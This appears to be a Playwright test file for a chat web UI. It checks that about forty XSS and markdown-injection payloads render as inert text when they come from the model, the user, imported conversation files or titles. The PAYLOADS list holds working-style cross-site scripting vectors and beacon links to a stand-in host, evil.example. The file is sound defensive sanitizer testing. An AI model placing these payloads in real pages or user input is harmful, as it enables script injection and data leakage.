"""Hostile text, from the model, from files and in titles, is shown and does nothing."""

from __future__ import annotations

import pytest

pytest.importorskip("playwright", reason="playwright is not installed")
from playwright.sync_api import expect

from tests.server.page.browsing import Tab

PAYLOADS = [
    "<script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data=javascript:hit()></object>",
    "<embed src=javascript:hit()>",
    "<a href=javascript:hit()>click</a>",
    "[click](javascript:hit())",
    "[click](  JaVaScRiPt:hit())",
    "[click](java&#x09;script:hit())",
    "[click](data:text/html,<script>hit()</script>)",
    "[click](vbscript:hit())",
    "![image](https://evil.example/?secret)",
    "![image](javascript:hit())",
    '![a"onerror="hit()](x "onerror=hit()")',
    "<img src='https://evil.example/pixel.gif'>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>@import 'https://evil.example/a.css'; body{display:none}</style>",
    "<p style='background:url(https://evil.example/a)'>text</p>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><button>press</button></form>",
    "<details open ontoggle=hit()>x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<form id=settings><input name=parentNode><b id=draft>clobbered</b></form>",
    "```html\n<script>hit()</script>\n```",
    '```"><img src=x onerror=hit()>\ncode\n```',
    "`<img src=x onerror=hit()>`",
    "| a |\n|--|\n| <img src=x onerror=hit()> |",
    "[x]: javascript:hit()\n\n[x]",
    "<br onclick=hit()><br/onmouseover=hit()>",
    "<kbd\nonclick=hit()>x</kbd>",
    "<input autofocus onfocus=hit()>",
    "<video><source onerror=hit()></video>",
    "</div></article></li><h1 id=title>gone</h1>",
    "<!--><img src=x onerror=hit()>-->",
    '<https://evil.example/"onmouseover="hit()>',
]
FORBIDDEN_TAGS = [
    "script", "style", "link", "meta", "base", "iframe", "object", "embed", "form", "input", "img",
    "video", "audio", "source", "math", "template", "noscript", "details", "foreignObject", "use",
]  # fmt: skip
INSPECT = """(body) => [...body.querySelectorAll("*")].flatMap((node) => [
  ["tag", node.tagName],
  ...[...node.attributes].map(({ name, value }) => [name, value]),
])"""


def watched(tab: Tab) -> Tab:
    tab.page.evaluate("() => { window.hit = () => { window.wasHit = true; }; }")
    return tab


def check(tab: Tab, selector: str) -> None:
    """Nothing ran, and nothing in an element could run or be fetched."""
    for body in tab.page.locator(selector).all():
        for name, value in body.evaluate(INSPECT):
            if name == "tag":
                assert value.lower() not in FORBIDDEN_TAGS, value
            assert not name.startswith("on") and name not in ("style", "id", "name", "src"), name
            if name == "href":
                assert value.startswith(("https://", "http://", "mailto:")), value
    tab.page.wait_for_timeout(50)
    assert tab.page.evaluate("window.wasHit") is None
    assert tab.page.evaluate("document.querySelectorAll('#draft, #title, #settings').length") == 3


def test_the_model_says_hostile_things(tab: Tab) -> None:
    watched(tab)
    for start in range(0, len(PAYLOADS), 10):
        tab.reply_with([b"%s\n\n" % payload.encode() for payload in PAYLOADS[start : start + 10]])
        tab.ask("Hello")
    check(tab, ".assistant .body")
    for link in tab.page.locator(".assistant .body a").all():
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    for button in tab.page.locator(".foot >> text=Inspect tokens").all():
        button.click()  # the same texts as tokens
    tab.page.click(".token >> nth=0")
    assert tab.page.evaluate("window.wasHit") is None
    assert tab.page.locator(".tokens *:not(span)").count() == 0


@pytest.mark.parametrize("size", [1, 7])
def test_hostile_text_in_small_pieces(tab: Tab, size: int) -> None:
    """Each prefix is drawn on its own: a cut tag is as harmless as a whole one."""
    watched(tab)
    text = "\n\n".join(PAYLOADS)
    count = tab.page.evaluate(
        """async ([text, size]) => {
          const { Markdown } = await import("/page/markdown.js");
          const target = document.createElement("div");
          target.className = "body hostile";
          document.getElementById("messages").append(target);
          const markdown = new Markdown(target);
          for (let end = 0; end < text.length; end += size) markdown.show(text.slice(0, end));
          while (!markdown.show(text, true));
          return target.children.length;
        }""",
        [text, size],
    )
    assert count > 20
    check(tab, ".hostile")


def test_the_user_says_hostile_things(tab: Tab) -> None:
    watched(tab)
    tab.reply_with([b"ok"])
    for payload in PAYLOADS[:10]:
        tab.ask(payload)
    expect(tab.page.locator(".user .body")).to_have_text(PAYLOADS[:10])
    assert tab.page.locator(".user .body *").count() == 0
    expect(tab.page.locator(".entry")).to_have_text(PAYLOADS[0])
    expect(tab.page.locator("#title")).to_have_text(PAYLOADS[0])


def test_hostile_files_and_titles(tab: Tab) -> None:
    watched(tab)
    messages = [
        {"id": f"{role}{i}", "parent": parent, "role": role, "content": payload, "note": payload,
         "status": "broken", "tokens": [token(payload)] if role == "assistant" else []}
        for i, payload in enumerate(PAYLOADS)
        for role, parent in [("user", above(i)), ("assistant", f"user{i}")]
    ]  # fmt: skip
    conversation = {"title": PAYLOADS[1], "system": PAYLOADS[0], "messages": messages}
    data = {"format": "llama3-conversations", "version": 1, "conversations": [conversation]}
    tab.bring(data)
    expect(tab.page.locator("#title")).to_have_text(PAYLOADS[1])
    expect(tab.page.locator(".message")).to_have_count(2 * len(PAYLOADS))
    check(tab, ".assistant .body")
    check(tab, "#conversations")
    tab.page.hover(".entry")
    tab.page.click("#conversations .icon-button")
    tab.page.click("#menu >> text=Delete")
    expect(tab.page.locator("#delete-name")).to_have_text(PAYLOADS[1])
    tab.page.keyboard.press("Escape")
    tab.page.locator(".foot >> text=Inspect tokens").nth(1).click()
    tab.page.click(".token")
    expect(tab.page.locator("#considered code").first).to_contain_text("img")
    assert tab.page.evaluate("window.wasHit") is None


def above(i: int) -> str:
    return f"assistant{i - 1}" if i else "root"


def token(text: str) -> dict[str, object]:
    return {"id": 1, "bytes": list(text.encode()), "logprob": -1.0, "top": []}
